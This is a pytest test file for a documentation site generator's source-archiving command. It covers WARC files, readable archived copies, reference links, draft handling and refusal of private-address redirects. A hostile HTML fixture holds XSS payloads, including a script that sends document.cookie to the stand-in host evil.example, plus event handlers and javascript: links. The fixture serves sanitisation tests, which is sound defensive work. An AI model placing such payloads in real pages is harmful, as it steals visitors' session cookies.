"""Archived sources and drafts: ``readings sources archive`` against a local HTTP server (the fetch tests' own
handler, with a hostile page added), the WARC files it writes, the readable copies the site publishes, the links
beside References, the ``check --publish`` warning, and the one draft rule (``schema.is_draft``) in the built site."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import re
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest
from warcio.archiveiterator import ArchiveIterator

from generator.bibliography import archive as archive_module
from generator.bibliography import parse as parse_bibliography
from generator.bibliography.archive import outside_archive, read_warc, to_warc, unarchived_problems
from generator.cli import main
from generator.document.schema import ReadingMeta, Review, is_draft
from generator.errors import InputError
from generator.fetching import client
from generator.fetching.client import Download
from generator.importers.record import CaptureRecord
from generator.site.archived import with_archive_links
from tests.conftest import make_project
from tests.test_fetch import ARTICLE, Handler, Server

READING = "docs/readings/isis-daesh-is-on-the-rise-in-afghanistan-why-whos-supporting.md"
KEY = "afp-2017-darzab-arabnews"  # cited by the seed's reading
HOSTILE_KEY = "afp-2017-darzab-hurriyet"
OUTSIDE_KEY = "afp-2017-darzab-aina"
WAYBACK = "https://web.archive.org/web/20171211120000/http://www.aina.org/news/20171211115511.htm"
HOSTILE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile &lt;b&gt;page</title>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css"></head>
<body onload="alert(1)"><article><h1>Hostile page</h1>
<p>The first paragraph of the hostile article says something ordinary about a harbour and its ferries today.</p>
<p>A <a href="javascript:alert(1)">link that runs a script</a> and an <img src="https://evil.example/pixel.png"
onerror="alert(2)"> image, with <b onclick="alert(3)">bold words</b> and an escaped &lt;script&gt;alert(4)&lt;/script&gt;.</p>
<iframe src="https://evil.example/frame"></iframe>
<p>Markup of our own: ==a passage==[^claim-fake] and [@karimi-2017] and [x](javascript:alert(5)) and {: onclick="x"}.</p>
<p>The last paragraph of the hostile article ends the text with a sentence long enough to be kept by extraction.</p>
</article><script>alert(6)</script><svg onload="alert(7)"></svg></body></html>
"""


class ArchiveHandler(Handler):
    """The fetch tests' server, plus a hostile page and a redirect to another address."""

    target = ""  # where /to-private redirects

    def do_GET(self) -> None:  # noqa: N802  (http.server's name)
        if self.path == "/hostile":
            self._send(200, HOSTILE.encode(), {"Content-Type": "text/html; charset=utf-8"})
        elif self.path == "/to-private":
            self._send(302, b"", {"Location": self.target})
        else:
            super().do_GET()


def _serve(host: str) -> tuple[Server, str]:
    httpd = Server((host, 0), ArchiveHandler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, f"http://{host}:{httpd.server_address[1]}"


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    httpd, url = _serve("127.0.0.1")
    yield url
    httpd.shutdown()


def _point(project: Path, key: str, url: str, extra: str = "") -> None:
    """Give the entry ``key`` of the project's bibliography the address ``url`` (and lines ``extra``)."""
    path = project / "docs" / "sources.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index(f"- id: {key}\n")
    end = text.index("\n- id: ", start + 1) if "\n- id: " in text[start + 1:] else len(text)
    entry = re.sub(r"(?m)^  URL: .*$", f"  URL: {url}{extra}", text[start:end])
    path.write_text(text[:start] + entry + text[end:], encoding="utf-8")


def archive(project: Path, *args: str) -> int:
    return main(["--project", str(project), "sources", "archive", "--allow-private", "--timeout", "2", *args])


def _download(body: bytes, url: str = "https://news.example.org/a") -> Download:
    import hashlib

    capture = CaptureRecord(requested_url=url, final_url=url, redirects=(), retrieved="2026-12-01T10:00:00Z", status=200,
                            content_type="text/html; charset=utf-8", date="", last_modified="", etag='"v1"',
                            sha256=hashlib.sha256(body).hexdigest(), user_agent="test")
    return Download(body, capture, ".html")


def test_a_warc_file_is_deterministic_and_reads_back() -> None:
    download = _download(ARTICLE.format(extra="").encode())
    data = to_warc("k", download)
    assert data == to_warc("k", download)  # record ids and dates from the capture; gzip writes no time
    assert data[:2] == b"\x1f\x8b" and data[4:8] == b"\0\0\0\0"
    records = [(r.rec_type, r.rec_headers.get_header("WARC-Date"), r.content_stream().read()) for r in ArchiveIterator(io.BytesIO(data))]
    assert [(kind, date) for kind, date, _body in records] == [("response", "2026-12-01T10:00:00Z"),
                                                               ("metadata", "2026-12-01T10:00:00Z")]
    assert records[0][2] == download.body and json.loads(records[1][2])["etag"] == '"v1"'
    back = read_warc(data, "k", "seeds/sources/k.warc.gz")
    assert back.body == download.body and back.capture == download.record


def test_a_damaged_or_altered_warc_file_is_one_located_problem() -> None:
    download = _download(b"<p>page</p>")
    for data in (b"not a warc", gzip.compress(b"WARC/1.1\r\nWARC-Type: response\r\n"),
                 to_warc("k", dataclasses.replace(download, body=b"<p>other</p>"))):
        with pytest.raises(InputError) as caught:
            read_warc(data, "k", "seeds/sources/k.warc.gz")
        assert [p.code for p in caught.value.problems] == ["bad-archive"]
        assert caught.value.problems[0].path == "seeds/sources/k.warc.gz"


def test_an_archived_page_larger_than_the_cap_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive_module, "MAX_BODY_BYTES", 1000)
    with pytest.raises(InputError) as caught:
        read_warc(to_warc("k", _download(b"\0" * 5000)), "k", "seeds/sources/k.warc.gz")
    assert "larger than" in caught.value.problems[0].message


def test_an_outside_archive_is_read_from_archive_location_with_its_date() -> None:
    text = (f"references:\n- id: a\n  title: T\n  publisher: P\n  issued: '2017'\n  URL: https://x.example/a\n"
            f"  archive: Internet Archive\n  archive_location: {WAYBACK}\n"
            "- id: b\n  title: T\n  publisher: P\n  issued: '2017'\n  URL: https://x.example/b\n"
            "- id: c\n  title: T\n  publisher: P\n  issued: '2017'\n  URL: https://x.example/c\n")
    bibliography, problems = parse_bibliography(text, "docs/sources.yaml")
    assert problems == []  # archive and archive_location are CSL variables: the entry stays valid CSL-JSON
    assert outside_archive(bibliography.entries["a"]) == (WAYBACK, "2017-12-11")
    assert outside_archive(bibliography.entries["b"]) is None
    warned = unarchived_problems(bibliography, {"a", "b", "c"}, {"c"})
    assert [p.format() for p in warned] == [
        "docs/sources.yaml:13:1: warning: [b] the cited address has no archived copy: run `readings sources archive b`,"
        " or give 'archive_location' (the address of a copy in a web archive) [unarchived-source]"]


def test_links_beside_references_pass_the_allowlist() -> None:
    page = '<section class="references"><ul class="references-list"><li id="ref-a">Entry A.</li><li id="ref-b">B.</li></ul></section>'
    out = with_archive_links(page, {"a": [("../archived/a/", 'archived copy "><script>alert(1)</script>'),
                                          ("javascript:alert(1)", "archived")]})
    assert "<script" not in out and "javascript:" not in out
    assert '<li id="ref-a">Entry A. <span class="archived-links">· <a href="../archived/a/">' in out
    assert '<li id="ref-b">B.</li>' in out


def test_unknown_keys_are_refused_with_a_located_line_and_a_suggestion(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project(tmp_path)
    capsys.readouterr()
    assert archive(project, "afp-2017-darzab-arabnew", "cbc-2020") == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert err == ["docs/sources.yaml:1:1: error: no entry 'afp-2017-darzab-arabnew' in docs/sources.yaml; did you mean"
                   " 'afp-2017-darzab-arabnews'? [unknown-source]"]
    line = next(n for n, text in enumerate((project / "docs" / "sources.yaml").read_text(encoding="utf-8").splitlines(), 1)
                if text == "- id: cbc-2020")
    assert archive(project, "cbc-2020") == 1  # an entry without an address
    assert capsys.readouterr().err.strip() == f"docs/sources.yaml:{line}:1: error: [cbc-2020] has no 'URL' to archive [no-source-url]"
    assert not (project / "seeds" / "sources").exists()


def test_a_too_large_page_and_a_redirect_to_a_private_address_are_refused(
        tmp_path: Path, server: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project(tmp_path)
    _point(project, KEY, f"{server}/big")
    capsys.readouterr()
    assert archive(project, "--max-size", "1", KEY) == 1
    assert capsys.readouterr().err.strip().endswith("over the 1 MB limit (--max-size) [too-large]")
    assert not (project / "seeds" / "sources").exists()
    # A server on 127.0.0.2 taken for a public one redirects to 127.0.0.1: without --allow-private, that hop is refused.
    policy = client.address_refusal
    monkeypatch.setattr(client, "address_refusal", lambda address: None if address == "127.0.0.2" else policy(address))
    httpd, public = _serve("127.0.0.2")
    try:
        ArchiveHandler.target = f"{server}/article"
        _point(project, KEY, f"{public}/to-private")
        line = next(n for n, row in enumerate((project / "docs" / "sources.yaml").read_text().splitlines(), 1)
                    if row.startswith(f"  URL: {public}/to-private"))
        assert main(["--project", str(project), "sources", "archive", "--timeout", "2", KEY]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and err[0].startswith(f"docs/sources.yaml:{line}:1: error: [{KEY}] 127.0.0.1, a loopback address")
        assert err[0].endswith("[private-address]")
    finally:
        httpd.shutdown()
    assert not (project / "seeds" / "sources").exists()


@pytest.fixture(scope="module")
def archived_site(tmp_path_factory: pytest.TempPathFactory, server: str) -> Path:
    """The repository's docs with two sources archived from the local server (one hostile), one archived elsewhere,
    and the seed's reading turned back into what an import writes (no review: key); then built."""
    project = make_project(tmp_path_factory.mktemp("archive-project"))
    _point(project, KEY, f"{server}/article")
    _point(project, HOSTILE_KEY, f"{server}/hostile")
    _point(project, OUTSIDE_KEY, "http://www.aina.org/news/20171211115511.htm",
           f"\n  archive: Internet Archive\n  archive_location: {WAYBACK}")
    reading = project / READING
    text = reading.read_text(encoding="utf-8")
    reading.write_text(re.sub(r"(?m)^review:\n(?:  .*\n)+", "", text, count=1), encoding="utf-8")
    assert "review:" not in reading.read_text(encoding="utf-8").split("\n---\n", 1)[0]
    assert archive(project, KEY, HOSTILE_KEY) == 0
    assert main(["--project", str(project), "build"]) == 0
    return project


def test_archive_writes_warc_files_and_readable_copies(archived_site: Path, server: str,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    warc = archived_site / "seeds" / "sources" / f"{KEY}.warc.gz"
    back = read_warc(warc.read_bytes(), KEY, "w")
    assert back.body == ARTICLE.format(extra="").encode() and back.capture.final_url == f"{server}/article"
    assert back.capture.etag == '"v1"'  # the fetch client's provenance record travels in the WARC file
    page = (archived_site / "docs" / "archived" / f"{KEY}.md").read_text(encoding="utf-8")
    assert "The harbour reopened on Tuesday" in page and f"seeds/sources/{KEY}.warc.gz" in page
    before = warc.read_bytes()
    capsys.readouterr()
    assert archive(archived_site, KEY) == 0  # already archived: left as it is
    assert "already archived" in capsys.readouterr().out and warc.read_bytes() == before
    assert archive(archived_site, "--again", KEY) == 1  # not a git repository: the old copy would be lost
    assert capsys.readouterr().err.strip() == (f"seeds/sources/{KEY}.warc.gz:1:1: error: capturing this source anew would"
                                               " replace its archived copy: the project is not a git repository: move the"
                                               " old copy away first, so it is not lost [uncommitted-capture]")
    assert warc.read_bytes() == before
    assert main(["--project", str(archived_site), "check"]) == 0  # the generated pages are current


def test_references_link_the_archived_copies(archived_site: Path) -> None:
    slug = Path(READING).stem
    html = (archived_site / "site" / "readings" / slug / "index.html").read_text(encoding="utf-8")
    item = re.search(rf'<li id="ref-{KEY}">.*?</li>', html, re.DOTALL)
    assert item and f'· <a href="../../archived/{KEY}/">archived copy, captured ' in item.group(0)
    assert re.search(r"archived copy, captured \d{1,2} [A-Z][a-z]+ 20\d\d<", item.group(0))
    outside = re.search(rf'<li id="ref-{OUTSIDE_KEY}">.*?</li>', html, re.DOTALL)
    assert outside and f'<a href="{WAYBACK}"' in outside.group(0) and "archived at Internet Archive, 11 December 2017" in outside.group(0)
    sources = (archived_site / "docs" / "sources.md").read_text(encoding="utf-8")
    assert f"(archived/{KEY}.md)" in sources and WAYBACK in sources


def test_a_hostile_archived_page_reaches_readers_as_text_only(archived_site: Path, server: str) -> None:
    html = (archived_site / "site" / "archived" / HOSTILE_KEY / "index.html").read_text(encoding="utf-8")
    main_part = html.split('<article class="md-content__inner', 1)[1].split("</article>", 1)[0]
    assert "The first paragraph of the hostile article" in main_part
    tree = lxml.html.fragment_fromstring(main_part.split(">", 1)[1], create_parent="div")
    assert {el.tag for el in tree.iter()} <= {"div", "h1", "a", "p", "code", "hr", "strong"}  # no script, iframe, img, svg
    assert not [name for el in tree.iter() for name in el.attrib if name.startswith("on")]
    # the permalink, the address captured, the Sources page: no link of the archived page's own
    assert [a.get("href") for a in tree.iter("a")][1:] == [f"{server}/hostile", "../../sources/"]
    assert "evil.example" not in main_part and "[x](javascript:alert(5))" in tree.text_content()  # text, not a link
    assert "<mark" not in main_part and 'class="citation"' not in main_part  # our own syntax stays text
    assert "evil.example" not in html.split("<article", 1)[0]  # nothing of the page reaches the head


def test_a_readable_copy_is_kept_out_of_search_engines(archived_site: Path) -> None:
    """Another publisher's article, kept as evidence: not republished for search engines (noindex, not in the sitemap)."""
    html = (archived_site / "site" / "archived" / KEY / "index.html").read_text(encoding="utf-8")
    assert '<meta name="robots" content="noindex">' in html
    sitemap = (archived_site / "site" / "sitemap.xml").read_text(encoding="utf-8")
    assert "/archived/" not in sitemap and "/sources/" in sitemap


def test_check_publish_warns_for_each_cited_address_without_an_archived_copy(archived_site: Path,
                                                                             capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    main(["--project", str(archived_site), "check", "--publish"])
    err = capsys.readouterr().err
    warned = set(re.findall(r"\[([^\]]+)\] the cited address has no archived copy", err))
    assert warned and KEY not in warned and HOSTILE_KEY not in warned and OUTSIDE_KEY not in warned
    assert "afp-2017-darzab-arabnews" not in warned and "sydney-news-2017" in warned
    assert all(re.match(r"docs/sources\.yaml:\d+:1: warning: ", row) for row in err.splitlines() if "no archived copy" in row)


def test_a_reading_without_review_is_a_draft_everywhere(archived_site: Path) -> None:
    slug = Path(READING).stem
    site = archived_site / "site"
    html = (site / "readings" / slug / "index.html").read_text(encoding="utf-8")
    assert "Draft: not yet reviewed." in html
    assert '<meta name="robots" content="noindex">' in html
    assert '"ClaimReview"' not in html
    sitemap = (site / "sitemap.xml").read_text(encoding="utf-8")
    assert f"/readings/{slug}/" not in sitemap and "/about/" in sitemap
    about = (site / "about" / "index.html").read_text(encoding="utf-8")
    assert "noindex" not in about and "Draft: not yet reviewed." not in about


def test_the_draft_rule() -> None:
    assert is_draft(ReadingMeta(title="t")) and is_draft(ReadingMeta(title="t", review=Review("draft")))
    assert not is_draft(ReadingMeta(title="t", review=Review("reviewed", ("A",), None)))


def test_again_replaces_an_archived_copy_only_when_git_holds_it(tmp_path: Path, server: str,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project(tmp_path)
    _point(project, KEY, f"{server}/article")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    assert archive(project, KEY) == 0
    warc = project / "seeds" / "sources" / f"{KEY}.warc.gz"
    assert warc.is_file() and (project / "docs" / "archived" / f"{KEY}.md").is_file()
    capsys.readouterr()
    assert archive(project, "--again", KEY) == 1  # not committed yet
    assert capsys.readouterr().err.strip().endswith("commit it first, so git keeps the old capture [uncommitted-capture]")
    subprocess.run(["git", "add", "-A"], cwd=project, check=True)
    subprocess.run([*git, "commit", "-qm", "archived"], cwd=project, check=True)
    assert archive(project, "--again", KEY) == 0
    assert read_warc(warc.read_bytes(), KEY, "w").capture.final_url == f"{server}/article"


def test_a_warc_file_that_names_no_entry_or_is_damaged_is_one_located_line(tmp_path: Path,
                                                                             capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project(tmp_path)
    folder = project / "seeds" / "sources"
    folder.mkdir()
    (folder / "no-such-entry.warc.gz").write_bytes(to_warc("no-such-entry", _download(b"<p>x</p>")))
    (folder / f"{KEY}.warc.gz").write_bytes(b"\x1f\x8b damaged")
    capsys.readouterr()
    assert main(["--project", str(project), "check"]) == 1
    rows = sorted(row for row in capsys.readouterr().err.splitlines() if row.startswith("seeds/sources/"))
    assert len(rows) == 2
    assert rows[0].startswith(f"seeds/sources/{KEY}.warc.gz:1:1: error: not a readable WARC file") and rows[0].endswith("[bad-archive]")
    assert rows[1] == ("seeds/sources/no-such-entry.warc.gz:1:1: error: an archived copy of 'no-such-entry', which is not an"
                       " entry of docs/sources.yaml: rename the file after its entry's id (':' written '--'), or delete it"
                       " [unknown-source]")
